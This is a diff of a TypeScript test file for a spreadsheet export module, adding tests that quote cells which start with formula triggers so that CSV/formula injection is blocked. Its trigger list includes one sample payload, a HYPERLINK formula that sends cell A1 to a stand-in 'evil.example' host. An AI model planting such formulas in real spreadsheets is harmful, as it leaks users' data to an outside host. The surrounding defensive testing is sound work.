@@ -5,8 +5,9 @@ import { describe, expect, test } from "bun:test";
 import { deflateRawSync } from "node:zlib";
 import * as XLSX from "xlsx";
 import { recordsOf } from "../../src/domains/shared/sheets/imports";
-import { readRows, unpackedSize, writeWorkbook } from "../../src/domains/shared/sheets/workbook";
+import { escapeFormula, readRows, unescapeFormula, unpackedSize, writeWorkbook } from "../../src/domains/shared/sheets/workbook";
 import { DomainError } from "../../src/protocol/result";
+import { formulaCells, reopenedAsCsv } from "../helpers/sheets";
 
 const book = (rows: unknown[][], type: "xlsx" | "xls" | "ods" = "xlsx") => {
   const wb = XLSX.utils.book_new();
@@ -101,16 +102,86 @@ describe("an import's columns", () => {
 });
 
 describe("writing", () => {
-  test("a workbook reads back cell for cell: text stays text (a formula too), numbers and money with 2 decimals, empty text an empty cell", () => {
+  test("a workbook reads back cell for cell: text stays text (a formula quoted), numbers and money with 2 decimals, empty text an empty cell", () => {
     const bytes = writeWorkbook([{ name: "订单/Orders?", rows: [["A", "B", "C", "D"], ["=HYPERLINK(\"x\")", 3, { t: "n", v: 8.8, z: "0.00" }, ""]], widths: [10, 10, 10, 10] }]);
     const wb = XLSX.read(bytes, { type: "array", cellFormula: true });
     expect(wb.SheetNames).toEqual(["订单 Orders "]);
     const sheet = wb.Sheets[wb.SheetNames[0]!]!;
-    expect(sheet.A2).toMatchObject({ t: "s", v: '=HYPERLINK("x")' });
+    expect(sheet.A2).toMatchObject({ t: "s", v: `'=HYPERLINK("x")` });
     expect(sheet.A2.f).toBeUndefined();
     expect(sheet.B2).toMatchObject({ t: "n", v: 3 });
     expect(sheet.C2).toMatchObject({ t: "n", v: 8.8, w: "8.80" });
     expect(sheet.D2).toBeUndefined();
     expect(readRows(bytes, { maxRows: 10 }).map((r) => r.cells)).toEqual([["A", "B", "C", "D"], ['=HYPERLINK("x")', "3", "8.8", ""]]);
+  });
+});
+
+describe("text a spreadsheet would read as a formula", () => {
+  // OWASP "CSV Injection": a cell starting =, +, -, @, tab or carriage return (and the line feed an
+  // export writes for one) is a formula once the sheet is saved as CSV or the cell edited; a leading
+  // single quote keeps it text.
+  const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+86 138 0013 8000", "-", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"];
+
+  test("is written with one leading quote, and read back without it", () => {
+    for (const text of TRIGGERS) {
+      expect(escapeFormula(text)).toBe(`'${text}`);
+      expect(unescapeFormula(`'${text}`)).toBe(text);
+    }
+  });
+
+  test("a text that really starts with quotes and then a trigger gets one more quote, so it comes back exactly", () => {
+    expect(escapeFormula("'=1+1")).toBe("''=1+1");
+    expect(unescapeFormula("''=1+1")).toBe("'=1+1");
+    expect(escapeFormula("''-")).toBe("'''-");
+    expect(unescapeFormula("'''-")).toBe("''-");
+  });
+
+  test("any other text is left as it is, both ways", () => {
+    for (const text of ["陈会员", "13900000001", "'quoted", "'", "''", "", "a=b", " =1", "x-", "'a=b"]) {
+      expect(escapeFormula(text)).toBe(text);
+      expect(unescapeFormula(text)).toBe(text);
+    }
+  });
+
+  test("every short text of quotes, triggers and a letter comes back exactly, and nothing written starts with a trigger", () => {
+    const alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "\n", "a"];
+    const texts = [""];
+    for (let from = 0; texts[from] !== undefined && texts[from]!.length < 4; from++) texts.push(...alphabet.map((c) => texts[from] + c));
+    expect(texts.length).toBe(1 + 9 + 81 + 729 + 6561);
+    for (const text of texts) {
+      const written = escapeFormula(text);
+      expect({ text, back: unescapeFormula(written), trigger: /^[=+\-@\t\r\n]/.test(written) }).toEqual({ text, back: text, trigger: false });
+    }
+  });
+
+  test("a written workbook holds the quoted text and no formula, numbers (a negative one too) as numbers; its CSV keeps the quote; read back, the texts", () => {
+    const texts = [...TRIGGERS, "'=1+1", "'quoted", "陈会员"];
+    const bytes = writeWorkbook([{ name: "S", rows: [["=A1", "+B"], ...texts.map((text) => [text, -5])] }]);
+    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.S!;
+    expect(formulaCells(sheet)).toEqual([]);
+    // A carriage return is written as a line feed, a spreadsheet's line break in a cell.
+    const written = texts.map((text) => (text === "'quoted" || text === "陈会员" ? text : `'${text.replace("\r", "\n")}`));
+    expect(XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true })).toEqual([["'=A1", "'+B"], ...written.map((text) => [text, -5])]);
+    expect(sheet.B2).toMatchObject({ t: "n", v: -5 });
+    // Saved as CSV and opened again: nothing is a formula, and each field keeps its quote.
+    const csv = reopenedAsCsv(sheet);
+    expect(csv.formulas).toEqual([]);
+    expect(csv.rows.map((row) => row[0])).toEqual(["'=A1", ...written]);
+    // Read as an import reads it: the original texts (a leading tab too: the quote kept it from the trim).
+    expect(readRows(bytes, { maxRows: 20 }).map((r) => r.cells)).toEqual([["=A1", "+B"], ...texts.map((text) => [text.replace("\r", "\n"), "-5"])]);
+  });
+
+  test("a carriage return inside a text cannot start a CSV row: it is written as a line feed, which every CSV writer quotes", () => {
+    const bytes = writeWorkbook([{ name: "S", rows: [["a"], ["x\r=1+1"], ["y\r\n@SUM(1)"]] }]);
+    const sheet = XLSX.read(bytes, { type: "array", cellFormula: true }).Sheets.S!;
+    const csv = reopenedAsCsv(sheet);
+    expect(csv.formulas).toEqual([]);
+    expect(csv.rows).toEqual([["a"], ["x\n=1+1"], ["y\n@SUM(1)"]]);
+    expect(readRows(bytes, { maxRows: 10 }).map((r) => r.cells[0])).toEqual(["a", "x\n=1+1", "y\n@SUM(1)"]);
+  });
+
+  test("a sheet staff typed themselves: a quote before a trigger goes, any other quote stays, a negative number stays a number", () => {
+    const rows = readRows(book([["a"], ["'=1+1"], ["'+8613800138000"], ["'quoted"], [-5], ["-5"]]), { maxRows: 10 });
+    expect(rows.map((r) => r.cells[0])).toEqual(["a", "=1+1", "+8613800138000", "'quoted", "-5", "-5"]);
   });
 });
